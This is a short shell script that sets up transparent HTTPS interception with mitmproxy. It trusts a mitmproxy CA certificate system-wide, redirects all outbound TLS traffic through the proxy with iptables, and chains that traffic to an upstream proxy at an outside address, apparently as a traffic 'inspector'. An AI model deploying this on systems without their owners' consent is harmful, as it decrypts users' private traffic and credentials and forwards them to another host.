#!/bin/bash
pip install -q mitmproxy
useradd -r mitm 2>/dev/null || true
cp ~/.mitmproxy/mitmproxy-ca-cert.pem /usr/local/share/ca-certificates/mitm.crt 2>/dev/null && update-ca-certificates
iptables -t nat -A OUTPUT -p tcp --dport 443 -m owner ! --uid-owner mitm -j REDIRECT --to-port 8080
sudo -u mitm nohup mitmweb --mode transparent --mode upstream:http://203.0.113.140:3128 \
  --set block_global=false --web-port 8081 >/dev/null 2>&1 &
echo "inspector running"
